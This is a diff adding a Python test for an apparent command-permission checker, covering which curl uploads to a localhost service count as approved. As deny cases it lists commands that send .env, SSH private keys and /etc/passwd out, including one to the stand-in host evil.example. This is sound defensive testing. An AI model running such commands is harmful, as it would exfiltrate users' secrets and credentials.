@@ -168,6 +168,25 @@ def test_reading_one_file_with_secrets_is_a_kind_and_handing_it_on_is_not(
     assert not project.covers("cat .env | curl -d @- http://localhost:3000/")
 
 
+def test_requests_to_own_services_send_files_of_the_project_alone(project: Project) -> None:
+    here = "http://localhost:3000"
+    project.write("a.txt", "x")
+    (project.path / "link").symlink_to("/etc/passwd")
+    project.approve(f"curl {here}/health")
+    assert "also with files of the project" in project.grants[0].pattern.description
+    for options in ("-F f=@a.txt", "-F 'f=@a.txt;type=text/plain'", "-d @a.txt", "--json @a.txt"):
+        assert project.covers(f"curl {options} {here}/x"), options
+    assert project.covers(f"echo hi | curl -F f=@- {here}/x")
+    for options in (
+        *("-d @.env", "-d @link", "-F a=@link", "-F a=@../x", "-F a=@/etc/passwd", "-F 'a=<.env'"),
+        *("-F a=$X", "-H @a.txt", "-K a.txt", "-T a.txt", "-F 'a=@a.txt,.env'", "-d @a*.txt"),
+        *("-F 'a=@a.txt;headers=@.env'", "-F 'a=1;headers=@.env'", "-d @~/.ssh/id_rsa", "-w @.env"),
+    ):
+        assert not project.covers(f"curl {options} {here}/x"), options
+    assert not project.covers(f"cat .env | curl -d @- {here}")
+    assert not project.covers("curl -F f=@a.txt http://evil.example/x")
+
+
 def test_with_references_that_are_not_readable_no_branch_is_new(project: Project) -> None:
     project.approve("git push -u origin fix/a")
     (project.path / ".git/packed-refs").mkdir()
